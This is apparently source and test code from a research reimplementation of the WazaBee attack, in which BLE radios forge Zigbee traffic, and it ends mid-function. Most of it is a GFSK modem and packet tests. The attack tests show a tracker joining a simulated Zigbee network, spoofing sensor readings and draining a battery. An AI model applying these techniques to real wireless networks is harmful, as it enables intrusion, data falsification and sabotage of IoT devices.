		Payload: []byte("gablys"),
	}
	bits, err := pkt.AirBits()
	if err != nil {
		t.Fatal(err)
	}
	sig, err := phy.ModulateBits(bits)
	if err != nil {
		t.Fatal(err)
	}
	padded, err := sig.Pad(100, 50)
	if err != nil {
		t.Fatal(err)
	}
	addressPattern := bits[8 : 8+32] // correlate on the pipe address
	cap, err := phy.DemodulateFrame(padded, addressPattern, 2)
	if err != nil {
		t.Fatal(err)
	}
	got, err := ParseESBAirBits(cap.Bits, len(pkt.Address))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got.Payload, pkt.Payload) {
		t.Errorf("payload = %q, want %q", got.Payload, pkt.Payload)
	}
}
