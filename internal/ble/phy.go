package ble

import (
	"errors"
	"fmt"
	"math"

	"wazabee/internal/bitstream"
	"wazabee/internal/dsp"
	"wazabee/internal/dsp/stream"
)

// Mode selects the physical-layer variant of a BLE-family radio.
type Mode int

const (
	// LE1M is the original 1 Mbit/s BLE PHY.
	LE1M Mode = iota + 1
	// LE2M is the 2 Mbit/s PHY introduced in Bluetooth 5, the one
	// WazaBee requires (Ts(MSK) = Tb(OQPSK) = 0.5 µs).
	LE2M
	// ESB2M is Nordic's proprietary Enhanced ShockBurst at 2 Mbit/s,
	// the fallback used on the nRF51822 tracker of scenario B. Its GFSK
	// parameters match LE 2M closely enough for the attack; the chip
	// model degrades its receive quality.
	ESB2M
)

// String implements fmt.Stringer.
func (m Mode) String() string {
	switch m {
	case LE1M:
		return "LE 1M"
	case LE2M:
		return "LE 2M"
	case ESB2M:
		return "ESB 2M"
	default:
		return fmt.Sprintf("mode(%d)", int(m))
	}
}

// SymbolRate returns the PHY symbol rate in symbols per second.
func (m Mode) SymbolRate() (int, error) {
	switch m {
	case LE1M:
		return 1_000_000, nil
	case LE2M, ESB2M:
		return 2_000_000, nil
	default:
		return 0, fmt.Errorf("ble: invalid mode %d", int(m))
	}
}

// PreambleLength returns the preamble length in bytes for the mode.
func (m Mode) PreambleLength() int {
	if m == LE2M {
		return 2
	}
	return 1
}

// ErrNoAccessAddress is returned when a capture does not contain the
// configured Access Address pattern.
var ErrNoAccessAddress = errors.New("ble: access address not found")

// PHY is a GFSK modem: the modulator and frequency-discriminator
// demodulator of a BLE radio front end.
type PHY struct {
	// Mode selects LE 1M, LE 2M or ESB 2M.
	Mode Mode
	// SamplesPerSymbol is the baseband oversampling factor.
	SamplesPerSymbol int
	// ModulationIndex is the GFSK modulation index; the BLE
	// specification requires a value between 0.45 and 0.55 and the
	// WazaBee analysis assumes the nominal 0.5.
	ModulationIndex float64
	// BT is the bandwidth-time product of the Gaussian filter (0.5 for
	// BLE). Zero disables the filter, degenerating to plain 2-FSK/MSK.
	BT float64

	pulse []float64
}

// NewPHY builds a GFSK modem with the given oversampling, nominal
// modulation index 0.5 and the BLE Gaussian filter (BT = 0.5).
func NewPHY(mode Mode, samplesPerSymbol int) (*PHY, error) {
	return NewPHYWithShaping(mode, samplesPerSymbol, 0.5, 0.5)
}

// NewPHYWithShaping builds a GFSK modem with explicit modulation index and
// Gaussian BT product (bt <= 0 disables the filter). Used by the ablation
// benchmarks that sweep the BLE tolerance band.
func NewPHYWithShaping(mode Mode, samplesPerSymbol int, modIndex, bt float64) (*PHY, error) {
	if _, err := mode.SymbolRate(); err != nil {
		return nil, err
	}
	if samplesPerSymbol < 2 {
		return nil, fmt.Errorf("ble: samples per symbol %d < 2", samplesPerSymbol)
	}
	if modIndex <= 0 || modIndex > 1 {
		return nil, fmt.Errorf("ble: modulation index %g out of (0,1]", modIndex)
	}
	pulse, err := dsp.GaussianPulse(bt, samplesPerSymbol, 2)
	if err != nil {
		return nil, err
	}
	return &PHY{
		Mode:             mode,
		SamplesPerSymbol: samplesPerSymbol,
		ModulationIndex:  modIndex,
		BT:               bt,
		pulse:            pulse,
	}, nil
}

// ModulateBits produces the GFSK complex-baseband waveform of an on-air
// bit sequence: NRZ mapping, frequency-pulse shaping (Gaussian filtered
// rectangle) and phase integration. Each bit advances the phase by
// ±π·ModulationIndex; with the nominal index 0.5 that is the ±π/2 per
// symbol of MSK.
func (p *PHY) ModulateBits(bits bitstream.Bits) (dsp.IQ, error) {
	out, err := p.AppendModulateBits(nil, bits)
	if err != nil {
		return nil, err
	}
	return out, nil
}

// AppendModulateBits is the allocation-free form of ModulateBits: it
// appends the waveform to dst (which may be a pooled slab) and returns
// the extended slice. The frequency-trace scratch is borrowed from the
// shared buffer pool, so a warmed-up transmit path performs no heap
// allocation beyond growing dst.
func (p *PHY) AppendModulateBits(dst dsp.IQ, bits bitstream.Bits) (dsp.IQ, error) {
	if len(bits) == 0 {
		return nil, fmt.Errorf("ble: empty bit stream")
	}
	sps := p.SamplesPerSymbol
	// Frequency trace: superpose one shaped pulse per symbol.
	n := len(bits)*sps + len(p.pulse) - sps
	pool := stream.Shared()
	freq := pool.F64(n)[:n]
	for i := range freq {
		freq[i] = 0
	}
	gain := math.Pi * p.ModulationIndex / float64(sps)
	for k, b := range bits {
		a := gain
		if b == 0 {
			a = -gain
		}
		base := k * sps
		for j, pv := range p.pulse {
			freq[base+j] += a * pv
		}
	}
	// Integrate to phase and emit the constant-envelope waveform. One
	// trailing sample carries the final accumulated phase so that the
	// last symbol keeps all of its phase increments.
	phase := 0.0
	for _, f := range freq {
		dst = append(dst, complex(math.Cos(phase), math.Sin(phase)))
		phase += f
		if phase > math.Pi {
			phase -= 2 * math.Pi
		} else if phase < -math.Pi {
			phase += 2 * math.Pi
		}
	}
	dst = append(dst, complex(math.Cos(phase), math.Sin(phase)))
	pool.PutF64(freq)
	return dst, nil
}

// Capture is a demodulated frame-aligned bit stream.
type Capture struct {
	// Bits is the hard-decision bit stream beginning at the first bit
	// of the matched pattern and running to the end of the capture.
	Bits bitstream.Bits
	// PatternErrors is the number of mismatched bits inside the matched
	// pattern window.
	PatternErrors int
	// PatternStart is the transition index of the matched pattern within
	// the capture at the recovered sampling phase; the first sample of
	// the frame sits at SampleOffset + PatternStart·SamplesPerSymbol.
	PatternStart int
	// SampleOffset is the recovered symbol-timing phase.
	SampleOffset int
	// SyncScore is the normalized soft correlation of the matched
	// pattern: 1.0 for a noiseless, perfectly timed match.
	SyncScore float64
	// CFOBias is the estimated per-symbol phase bias from carrier
	// frequency offset, already removed from Bits decisions.
	CFOBias float64
}

// DemodulateFrame searches a capture for the given bit pattern (an Access
// Address, or the WazaBee MSK preamble) with at most maxErrors mismatches
// and returns the CFO-corrected bit stream starting at the pattern. This
// mirrors how a BLE radio correlates on its configured Access Address
// before delivering payload bits.
func (p *PHY) DemodulateFrame(sig dsp.IQ, pattern bitstream.Bits, maxErrors int) (*Capture, error) {
	sps := p.SamplesPerSymbol
	if len(pattern) == 0 {
		return nil, fmt.Errorf("ble: empty access pattern")
	}
	if len(sig) < (len(pattern)+2)*sps {
		return nil, ErrNoAccessAddress
	}
	incs := dsp.Discriminate(sig)

	// Synchronisation: hard-correlate at every sampling phase (the
	// address correlator's error budget), then rank the qualifying
	// candidates by their soft correlation. Hard matching alone can
	// false-lock on payload coincidences at a wrongly timed phase, and
	// soft scores alone drift at wrong phases — the combination keeps
	// only the phase with a fully open eye.
	bestPhase, bestPos, bestErrs := -1, 0, 0
	var bestScore float64
	for phase := 0; phase < sps; phase++ {
		sums := dsp.IntegrateSymbols(incs, phase, sps)
		bits := dsp.SliceBits(sums)
		pos, errs, ok := dsp.FindPattern(bits, pattern, maxErrors)
		if !ok {
			continue
		}
		score, ok := dsp.SoftScore(sums, pattern, pos)
		if !ok {
			continue
		}
		if bestPhase < 0 || score > bestScore {
			bestPhase, bestPos, bestErrs, bestScore = phase, pos, errs, score
		}
	}
	if bestPhase < 0 {
		return nil, ErrNoAccessAddress
	}

	sums := dsp.IntegrateSymbols(incs, bestPhase, sps)

	// Estimate the CFO bias over the pattern window and re-slice.
	nominal := math.Pi * p.ModulationIndex
	var bias float64
	for i, want := range pattern {
		expected := nominal
		if want == 0 {
			expected = -expected
		}
		bias += sums[bestPos+i] - expected
	}
	bias /= float64(len(pattern))

	bits := make(bitstream.Bits, len(sums)-bestPos)
	for i := range bits {
		if sums[bestPos+i]-bias > 0 {
			bits[i] = 1
		}
	}
	return &Capture{
		Bits:          bits,
		PatternErrors: bestErrs,
		PatternStart:  bestPos,
		SampleOffset:  bestPhase,
		SyncScore:     bestScore / (float64(len(pattern)) * nominal),
		CFOBias:       bias,
	}, nil
}

// DemodulateRaw slices the whole capture into bits at the given sample
// phase with no pattern search, for diagnostics and waveform tooling.
func (p *PHY) DemodulateRaw(sig dsp.IQ, phase int) bitstream.Bits {
	incs := dsp.Discriminate(sig)
	sums := dsp.IntegrateSymbols(incs, phase, p.SamplesPerSymbol)
	return dsp.SliceBits(sums)
}
