package ble

import (
	"bytes"
	"errors"
	"math"
	"math/rand"
	"testing"
	"testing/quick"

	"wazabee/internal/bitstream"
	"wazabee/internal/dsp"
)

func TestChannelFrequencies(t *testing.T) {
	tests := []struct {
		channel int
		want    float64
	}{
		{0, 2404}, {3, 2410}, {8, 2420}, {10, 2424},
		{11, 2428}, {12, 2430}, {17, 2440}, {22, 2450},
		{27, 2460}, {32, 2470}, {36, 2478},
		{37, 2402}, {38, 2426}, {39, 2480},
	}
	for _, tt := range tests {
		got, err := ChannelFrequencyMHz(tt.channel)
		if err != nil {
			t.Fatal(err)
		}
		if got != tt.want {
			t.Errorf("channel %d frequency = %g, want %g", tt.channel, got, tt.want)
		}
	}
	if _, err := ChannelFrequencyMHz(40); err == nil {
		t.Error("expected error for channel 40")
	}
	if _, err := ChannelFrequencyMHz(-1); err == nil {
		t.Error("expected error for channel -1")
	}
}

func TestChannelFrequenciesUniqueAndSkipAdvertising(t *testing.T) {
	seen := make(map[float64]int, ChannelCount)
	for ch := 0; ch < ChannelCount; ch++ {
		f, err := ChannelFrequencyMHz(ch)
		if err != nil {
			t.Fatal(err)
		}
		if prev, dup := seen[f]; dup {
			t.Errorf("channels %d and %d share frequency %g", prev, ch, f)
		}
		seen[f] = ch
	}
	// Data channels must not collide with 2402/2426/2480.
	for ch := 0; ch <= 36; ch++ {
		f, _ := ChannelFrequencyMHz(ch)
		if f == 2402 || f == 2426 || f == 2480 {
			t.Errorf("data channel %d reuses an advertising frequency", ch)
		}
	}
}

func TestChannelForFrequency(t *testing.T) {
	ch, err := ChannelForFrequencyMHz(2420)
	if err != nil {
		t.Fatal(err)
	}
	if ch != 8 {
		t.Errorf("2420 MHz = channel %d, want 8", ch)
	}
	if _, err := ChannelForFrequencyMHz(2403); err == nil {
		t.Error("expected error for unused frequency")
	}
}

func TestIsDataChannel(t *testing.T) {
	if !IsDataChannel(0) || !IsDataChannel(36) {
		t.Error("0 and 36 are data channels")
	}
	if IsDataChannel(37) || IsDataChannel(-1) {
		t.Error("37 and -1 are not data channels")
	}
}

func TestModeProperties(t *testing.T) {
	tests := []struct {
		mode     Mode
		rate     int
		preamble int
		str      string
	}{
		{LE1M, 1_000_000, 1, "LE 1M"},
		{LE2M, 2_000_000, 2, "LE 2M"},
		{ESB2M, 2_000_000, 1, "ESB 2M"},
	}
	for _, tt := range tests {
		r, err := tt.mode.SymbolRate()
		if err != nil {
			t.Fatal(err)
		}
		if r != tt.rate {
			t.Errorf("%v rate = %d, want %d", tt.mode, r, tt.rate)
		}
		if got := tt.mode.PreambleLength(); got != tt.preamble {
			t.Errorf("%v preamble = %d, want %d", tt.mode, got, tt.preamble)
		}
		if tt.mode.String() != tt.str {
			t.Errorf("String() = %q, want %q", tt.mode.String(), tt.str)
		}
	}
	if _, err := Mode(0).SymbolRate(); err == nil {
		t.Error("expected error for invalid mode")
	}
	if Mode(9).String() != "mode(9)" {
		t.Error("unexpected String for invalid mode")
	}
}

func TestNewPHYValidation(t *testing.T) {
	if _, err := NewPHY(Mode(0), 8); err == nil {
		t.Error("expected error for invalid mode")
	}
	if _, err := NewPHY(LE2M, 1); err == nil {
		t.Error("expected error for sps=1")
	}
	if _, err := NewPHYWithShaping(LE2M, 8, 0, 0.5); err == nil {
		t.Error("expected error for zero modulation index")
	}
	if _, err := NewPHYWithShaping(LE2M, 8, 1.5, 0.5); err == nil {
		t.Error("expected error for modulation index > 1")
	}
}

func TestModulateBitsPhaseSteps(t *testing.T) {
	// Without the Gaussian filter the modulator is exact MSK: each bit
	// accumulates ±π/2 of phase.
	phy, err := NewPHYWithShaping(LE2M, 8, 0.5, 0)
	if err != nil {
		t.Fatal(err)
	}
	bits, _ := bitstream.ParseBits("1101001")
	sig, err := phy.ModulateBits(bits)
	if err != nil {
		t.Fatal(err)
	}
	incs := dsp.Discriminate(sig)
	sums := dsp.IntegrateSymbols(incs, 0, 8)
	for i, b := range bits {
		want := math.Pi / 2
		if b == 0 {
			want = -want
		}
		if math.Abs(sums[i]-want) > 1e-9 {
			t.Errorf("bit %d accumulated %g, want %g", i, sums[i], want)
		}
	}
}

func TestModulateBitsConstantEnvelope(t *testing.T) {
	phy, err := NewPHY(LE2M, 8)
	if err != nil {
		t.Fatal(err)
	}
	bits := bitstream.BytesToBits([]byte{0x3c, 0xa9, 0x55})
	sig, err := phy.ModulateBits(bits)
	if err != nil {
		t.Fatal(err)
	}
	if d := sig.EnvelopeDeviation(); d > 1e-9 {
		t.Errorf("GFSK envelope deviation = %g, want 0 (constant envelope)", d)
	}
}

func TestModulateBitsEmpty(t *testing.T) {
	phy, _ := NewPHY(LE2M, 8)
	if _, err := phy.ModulateBits(nil); err == nil {
		t.Error("expected error for empty bits")
	}
}

func TestGFSKLoopback(t *testing.T) {
	// A GFSK modulator feeding its own discriminator-based receiver
	// must recover the transmitted bits exactly on a clean channel.
	phy, err := NewPHY(LE2M, 8)
	if err != nil {
		t.Fatal(err)
	}
	aa := bitstream.Uint32ToBits(AdvAccessAddress)
	payload := bitstream.BytesToBits([]byte{0x13, 0x37, 0xc0, 0xde, 0x99})
	all := append(append(bitstream.Bits{0, 1, 0, 1, 0, 1, 0, 1}, aa...), payload...)

	sig, err := phy.ModulateBits(all)
	if err != nil {
		t.Fatal(err)
	}
	padded, err := sig.Pad(111, 50)
	if err != nil {
		t.Fatal(err)
	}
	cap, err := phy.DemodulateFrame(padded, aa, 2)
	if err != nil {
		t.Fatal(err)
	}
	got := cap.Bits[len(aa) : len(aa)+len(payload)]
	if got.String() != payload.String() {
		t.Errorf("payload bits = %s, want %s", got, payload)
	}
	if cap.PatternErrors != 0 {
		t.Errorf("pattern errors = %d on a clean channel", cap.PatternErrors)
	}
}

func TestGFSKLoopbackUnderImpairments(t *testing.T) {
	phy, err := NewPHY(LE2M, 8)
	if err != nil {
		t.Fatal(err)
	}
	aa := bitstream.Uint32ToBits(0x71764129)
	payload := bitstream.BytesToBits([]byte{1, 2, 3, 4, 5, 6, 7, 8})
	all := append(bitstream.Clone(aa), payload...)
	rnd := rand.New(rand.NewSource(21))

	for trial := 0; trial < 10; trial++ {
		sig, err := phy.ModulateBits(all)
		if err != nil {
			t.Fatal(err)
		}
		padded, err := sig.Pad(200, 60)
		if err != nil {
			t.Fatal(err)
		}
		padded.MixFrequency(25e3 / 16e6)
		padded.RotatePhase(rnd.Float64() * 2 * math.Pi)
		if err := dsp.AddAWGN(padded, 14, rnd); err != nil {
			t.Fatal(err)
		}
		cap, err := phy.DemodulateFrame(padded, aa, 4)
		if err != nil {
			t.Fatalf("trial %d: %v", trial, err)
		}
		got := cap.Bits[len(aa) : len(aa)+len(payload)]
		if got.String() != payload.String() {
			t.Fatalf("trial %d: payload corrupted", trial)
		}
	}
}

func TestDemodulateFrameNoMatch(t *testing.T) {
	phy, _ := NewPHY(LE2M, 8)
	rnd := rand.New(rand.NewSource(3))
	noise, err := dsp.NoiseFloor(4096, 0.5, rnd)
	if err != nil {
		t.Fatal(err)
	}
	_, err = phy.DemodulateFrame(noise, bitstream.Uint32ToBits(0x12345678), 2)
	if !errors.Is(err, ErrNoAccessAddress) {
		t.Errorf("error = %v, want ErrNoAccessAddress", err)
	}
	if _, err := phy.DemodulateFrame(noise, nil, 2); err == nil {
		t.Error("expected error for empty pattern")
	}
	if _, err := phy.DemodulateFrame(make(dsp.IQ, 8), bitstream.Uint32ToBits(1), 2); !errors.Is(err, ErrNoAccessAddress) {
		t.Error("expected ErrNoAccessAddress for tiny capture")
	}
}

func TestDemodulateRaw(t *testing.T) {
	phy, err := NewPHYWithShaping(LE2M, 8, 0.5, 0)
	if err != nil {
		t.Fatal(err)
	}
	bits, _ := bitstream.ParseBits("10110")
	sig, err := phy.ModulateBits(bits)
	if err != nil {
		t.Fatal(err)
	}
	got := phy.DemodulateRaw(sig, 0)
	if got[:len(bits)].String() != bits.String() {
		t.Errorf("DemodulateRaw = %s, want prefix %s", got[:len(bits)], bits)
	}
}

func TestPreambleByte(t *testing.T) {
	if preambleByte(0x8e89bed6) != 0xaa {
		t.Error("AA with even LSB should use 0xAA preamble")
	}
	if preambleByte(0x00000001) != 0x55 {
		t.Error("AA with odd LSB should use 0x55 preamble")
	}
}

func TestPacketAirBitsLayout(t *testing.T) {
	pkt := &Packet{
		AccessAddress:    AdvAccessAddress,
		PDU:              []byte{0x42, 0x01, 0x99},
		Channel:          8,
		Mode:             LE2M,
		DisableWhitening: true,
		DisableCRC:       true,
	}
	bits, err := pkt.AirBits()
	if err != nil {
		t.Fatal(err)
	}
	// LE 2M: 2 preamble bytes + 4 AA bytes + 3 PDU bytes.
	if len(bits) != (2+4+3)*8 {
		t.Fatalf("air bits = %d, want %d", len(bits), (2+4+3)*8)
	}
	wantAA := bitstream.Uint32ToBits(AdvAccessAddress)
	if bits[16:48].String() != wantAA.String() {
		t.Error("access address bits wrong")
	}
	if bits[48:].String() != bitstream.BytesToBits(pkt.PDU).String() {
		t.Error("raw PDU bits wrong with whitening disabled")
	}
}

func TestPacketRoundTripWhitenedWithCRC(t *testing.T) {
	pkt := &Packet{
		AccessAddress: AdvAccessAddress,
		PDU:           []byte{0x07, 0x05, 0xde, 0xad, 0xbe, 0xef, 0x01},
		Channel:       17,
		Mode:          LE2M,
		CRCInit:       bitstream.BLEAdvCRCInit,
	}
	bits, err := pkt.AirBits()
	if err != nil {
		t.Fatal(err)
	}
	// Strip preamble + AA to get the receiver's post-AA view.
	body := bits[(2+4)*8:]
	pdu, crcOK, err := pkt.ParseAirBits(body, len(pkt.PDU))
	if err != nil {
		t.Fatal(err)
	}
	if !crcOK {
		t.Error("CRC did not verify")
	}
	if !bytes.Equal(pdu, pkt.PDU) {
		t.Errorf("PDU = % x, want % x", pdu, pkt.PDU)
	}

	// A corrupted bit must fail the CRC.
	body[10] ^= 1
	_, crcOK, err = pkt.ParseAirBits(body, len(pkt.PDU))
	if err != nil {
		t.Fatal(err)
	}
	if crcOK {
		t.Error("CRC verified a corrupted packet")
	}
}

func TestPacketWhiteningChangesAirBits(t *testing.T) {
	mk := func(disable bool) bitstream.Bits {
		pkt := &Packet{
			AccessAddress:    0x12345678,
			PDU:              []byte{0xff, 0x00, 0xff},
			Channel:          8,
			Mode:             LE2M,
			DisableWhitening: disable,
			DisableCRC:       true,
		}
		bits, err := pkt.AirBits()
		if err != nil {
			t.Fatal(err)
		}
		return bits
	}
	if mk(true).String() == mk(false).String() {
		t.Error("whitening had no effect on air bits")
	}
}

func TestPacketValidation(t *testing.T) {
	pkt := &Packet{Channel: 41, Mode: LE2M}
	if _, err := pkt.AirBits(); err == nil {
		t.Error("expected error for bad channel")
	}
	pkt = &Packet{Channel: 0, Mode: Mode(0)}
	if _, err := pkt.AirBits(); err == nil {
		t.Error("expected error for bad mode")
	}
	good := &Packet{Channel: 0, Mode: LE2M, DisableCRC: true}
	if _, _, err := good.ParseAirBits(make(bitstream.Bits, 4), 4); err == nil {
		t.Error("expected error for short capture")
	}
}

func TestPacketAirBitsPropertyRoundTrip(t *testing.T) {
	// Property: any PDU on any channel survives the whiten+CRC encode /
	// decode path.
	f := func(pdu []byte, channelSel uint8, aa uint32) bool {
		if len(pdu) > 255 {
			pdu = pdu[:255]
		}
		pkt := &Packet{
			AccessAddress: aa,
			PDU:           pdu,
			Channel:       int(channelSel) % ChannelCount,
			Mode:          LE2M,
			CRCInit:       bitstream.BLEAdvCRCInit,
		}
		bits, err := pkt.AirBits()
		if err != nil {
			return false
		}
		body := bits[(2+4)*8:]
		got, crcOK, err := pkt.ParseAirBits(body, len(pdu))
		return err == nil && crcOK && bytes.Equal(got, pdu)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestCSA2Distribution(t *testing.T) {
	csa, err := NewCSA2(0x8e89bed6, nil)
	if err != nil {
		t.Fatal(err)
	}
	counts := make(map[int]int)
	const events = 37 * 200
	for e := 0; e < events; e++ {
		ch := csa.Channel(uint16(e))
		if !IsDataChannel(ch) {
			t.Fatalf("event %d selected non-data channel %d", e, ch)
		}
		counts[ch]++
	}
	if len(counts) != DataChannelCount {
		t.Fatalf("only %d distinct channels selected, want 37", len(counts))
	}
	for ch, n := range counts {
		if n < events/37/3 || n > events/37*3 {
			t.Errorf("channel %d selected %d times, grossly non-uniform", ch, n)
		}
	}
}

func TestCSA2ChannelMapRestriction(t *testing.T) {
	used := []int{8, 12, 20}
	csa, err := NewCSA2(0xdeadbeef, used)
	if err != nil {
		t.Fatal(err)
	}
	for e := 0; e < 500; e++ {
		ch := csa.Channel(uint16(e))
		if ch != 8 && ch != 12 && ch != 20 {
			t.Fatalf("event %d selected channel %d outside the map", e, ch)
		}
	}
}

func TestCSA2Deterministic(t *testing.T) {
	a, _ := NewCSA2(0x11223344, nil)
	b, _ := NewCSA2(0x11223344, nil)
	for e := 0; e < 100; e++ {
		if a.Channel(uint16(e)) != b.Channel(uint16(e)) {
			t.Fatal("CSA#2 is not deterministic")
		}
	}
}

func TestCSA2InvalidMap(t *testing.T) {
	if _, err := NewCSA2(1, []int{37}); err == nil {
		t.Error("expected error for advertising channel in map")
	}
}

func TestCSA2EventsUntil(t *testing.T) {
	csa, _ := NewCSA2(0x8e89bed6, nil)
	ctr, ok := csa.EventsUntil(8, 0, 500)
	if !ok {
		t.Fatal("channel 8 never selected in 500 events")
	}
	if csa.Channel(ctr) != 8 {
		t.Errorf("EventsUntil returned counter %d which selects %d", ctr, csa.Channel(ctr))
	}
	if _, ok := csa.EventsUntil(8, 0, 1); ok && csa.Channel(0) != 8 {
		t.Error("EventsUntil(limit=1) claimed success incorrectly")
	}
}

func TestPermIsInvolution(t *testing.T) {
	for _, v := range []uint16{0x0000, 0xffff, 0x1234, 0xa5c3} {
		if perm(perm(v)) != v {
			t.Errorf("perm(perm(%#x)) != %#x", v, v)
		}
	}
	if perm(0x0180) != 0x8001 {
		t.Errorf("perm(0x0180) = %#x, want 0x8001", perm(0x0180))
	}
}

func TestAuxAdvIndRoundTrip(t *testing.T) {
	advA := [6]byte{0x11, 0x22, 0x33, 0x44, 0x55, 0x66}
	data := []byte{0xde, 0xad, 0xbe, 0xef, 0x42}
	pdu, err := BuildAuxAdvInd(advA, 3, 0x123, 0x0059, data)
	if err != nil {
		t.Fatal(err)
	}
	gotA, company, gotData, err := ParseAuxAdvInd(pdu)
	if err != nil {
		t.Fatal(err)
	}
	if gotA != advA {
		t.Errorf("AdvA = % x, want % x", gotA, advA)
	}
	if company != 0x0059 {
		t.Errorf("company = %#x, want 0x0059", company)
	}
	if !bytes.Equal(gotData, data) {
		t.Errorf("data = % x, want % x", gotData, data)
	}
}

func TestAuxAdvIndOverheadIs16(t *testing.T) {
	// The paper reports a padding of 16 bytes before the forged frame;
	// the PDU layout must reproduce that exactly.
	data := []byte{0xaa}
	pdu, err := BuildAuxAdvInd([6]byte{}, 0, 0, 0xffff, data)
	if err != nil {
		t.Fatal(err)
	}
	if pdu[AuxAdvIndOverhead] != 0xaa {
		t.Errorf("payload starts at %d, want %d", bytes.IndexByte(pdu, 0xaa), AuxAdvIndOverhead)
	}
	if len(pdu) != AuxAdvIndOverhead+len(data) {
		t.Errorf("PDU length = %d, want %d", len(pdu), AuxAdvIndOverhead+len(data))
	}
}

func TestAuxAdvIndValidation(t *testing.T) {
	if _, err := BuildAuxAdvInd([6]byte{}, 16, 0, 0, nil); err == nil {
		t.Error("expected error for SID > 15")
	}
	if _, err := BuildAuxAdvInd([6]byte{}, 0, 0x1000, 0, nil); err == nil {
		t.Error("expected error for DID > 12 bits")
	}
	if _, err := BuildAuxAdvInd([6]byte{}, 0, 0, 0, make([]byte, 253)); err == nil {
		t.Error("expected error for oversized AD structure")
	}
}

func TestParseAuxAdvIndErrors(t *testing.T) {
	if _, _, _, err := ParseAuxAdvInd(make([]byte, 4)); err == nil {
		t.Error("expected error for short PDU")
	}
	good, _ := BuildAuxAdvInd([6]byte{}, 0, 0, 0, []byte{1, 2})
	bad := append([]byte{}, good...)
	bad[0] = 0x00
	if _, _, _, err := ParseAuxAdvInd(bad); err == nil {
		t.Error("expected error for wrong PDU type")
	}
	bad = append([]byte{}, good...)
	bad[1] = 0xff
	if _, _, _, err := ParseAuxAdvInd(bad); err == nil {
		t.Error("expected error for wrong length field")
	}
	bad = append([]byte{}, good...)
	bad[13] = 0x09
	if _, _, _, err := ParseAuxAdvInd(bad); err == nil {
		t.Error("expected error for non-manufacturer AD type")
	}
}

func TestAdvExtIndAuxPtrRoundTrip(t *testing.T) {
	aux := AuxPtr{ChannelIndex: 8, OffsetUsec: 1200, PHY: LE2M}
	pdu, err := BuildAdvExtInd(2, 0x0abc, aux)
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeAuxPtr(pdu)
	if err != nil {
		t.Fatal(err)
	}
	if got.ChannelIndex != 8 {
		t.Errorf("aux channel = %d, want 8", got.ChannelIndex)
	}
	if got.PHY != LE2M {
		t.Errorf("aux PHY = %v, want LE 2M", got.PHY)
	}
	if got.OffsetUsec != 1200 {
		t.Errorf("aux offset = %d, want 1200", got.OffsetUsec)
	}
}

func TestAdvExtIndValidation(t *testing.T) {
	aux := AuxPtr{ChannelIndex: 8, OffsetUsec: 300, PHY: LE2M}
	if _, err := BuildAdvExtInd(16, 0, aux); err == nil {
		t.Error("expected error for SID overflow")
	}
	if _, err := BuildAdvExtInd(0, 0x1000, aux); err == nil {
		t.Error("expected error for DID overflow")
	}
	if _, err := BuildAdvExtInd(0, 0, AuxPtr{ChannelIndex: 37, PHY: LE2M}); err == nil {
		t.Error("expected error for non-data aux channel")
	}
	if _, err := BuildAdvExtInd(0, 0, AuxPtr{ChannelIndex: 8, PHY: ESB2M}); err == nil {
		t.Error("expected error for ESB aux PHY")
	}
	if _, err := DecodeAuxPtr([]byte{1, 2}); err == nil {
		t.Error("expected error for short ADV_EXT_IND")
	}
}

func TestAuxPtrLargeOffsetUnits(t *testing.T) {
	aux := AuxPtr{ChannelIndex: 1, OffsetUsec: 300000, PHY: LE1M}
	pdu, err := BuildAdvExtInd(0, 0, aux)
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeAuxPtr(pdu)
	if err != nil {
		t.Fatal(err)
	}
	if got.OffsetUsec != 300000 {
		t.Errorf("round-tripped offset = %d, want 300000", got.OffsetUsec)
	}
}
