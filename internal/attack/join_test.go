package attack

import (
	"testing"

	"wazabee/internal/zigbee"
)

func TestJoinNetworkWhenPermitted(t *testing.T) {
	sim := newSim(t, 71)
	sim.Coordinator.PermitJoining = true
	tracker := newTracker(t, sim)
	info := &NetworkInfo{Channel: zigbee.DefaultChannel, PAN: zigbee.DefaultPAN, Coordinator: zigbee.DefaultCoordinator}

	addr, err := tracker.JoinNetwork(info)
	if err != nil {
		t.Fatal(err)
	}
	if addr == 0 || addr == 0xffff || addr == 0xfffe {
		t.Errorf("assigned address = %#04x", addr)
	}
	if len(sim.Coordinator.Associated) != 1 || sim.Coordinator.Associated[0] != addr {
		t.Errorf("coordinator association log = %v", sim.Coordinator.Associated)
	}

	// The infiltrated node can now report as itself.
	if err := tracker.SpoofData(info, addr, 777); err != nil {
		t.Fatal(err)
	}
	last, ok := sim.Coordinator.LastReading()
	if !ok || last.Src != addr || last.Value != 777 {
		t.Errorf("reading from joined node = %+v", last)
	}
}

func TestJoinNetworkDenied(t *testing.T) {
	sim := newSim(t, 72)
	// PermitJoining defaults to false: a locked-down network.
	tracker := newTracker(t, sim)
	info := &NetworkInfo{Channel: zigbee.DefaultChannel, PAN: zigbee.DefaultPAN, Coordinator: zigbee.DefaultCoordinator}
	if _, err := tracker.JoinNetwork(info); err == nil {
		t.Error("association succeeded on a network with joining disabled")
	}
	if len(sim.Coordinator.Associated) != 0 {
		t.Error("denied join still recorded an association")
	}
	if _, err := tracker.JoinNetwork(nil); err == nil {
		t.Error("expected error for nil info")
	}
}

func TestJoinNetworkAssignsDistinctAddresses(t *testing.T) {
	sim := newSim(t, 73)
	sim.Coordinator.PermitJoining = true
	info := &NetworkInfo{Channel: zigbee.DefaultChannel, PAN: zigbee.DefaultPAN, Coordinator: zigbee.DefaultCoordinator}

	a := newTracker(t, sim)
	addr1, err := a.JoinNetwork(info)
	if err != nil {
		t.Fatal(err)
	}
	addr2, err := a.JoinNetwork(info)
	if err != nil {
		t.Fatal(err)
	}
	if addr1 == addr2 {
		t.Errorf("both joins got %#04x", addr1)
	}
}
