package attack

import (
	"testing"

	"wazabee/internal/ieee802154"
	"wazabee/internal/zigbee"
)

func TestDepleteEnergyDrainsSensorBattery(t *testing.T) {
	sim := newSim(t, 61)
	battery, err := zigbee.NewBattery(1e5)
	if err != nil {
		t.Fatal(err)
	}
	sim.Sensor.Battery = battery
	tracker := newTracker(t, sim)
	info := &NetworkInfo{Channel: zigbee.DefaultChannel, PAN: zigbee.DefaultPAN, Coordinator: zigbee.DefaultCoordinator}

	// Baseline: a few reporting periods cost only TX energy.
	for i := 0; i < 3; i++ {
		if _, err := sim.Step(zigbee.DefaultChannel); err != nil {
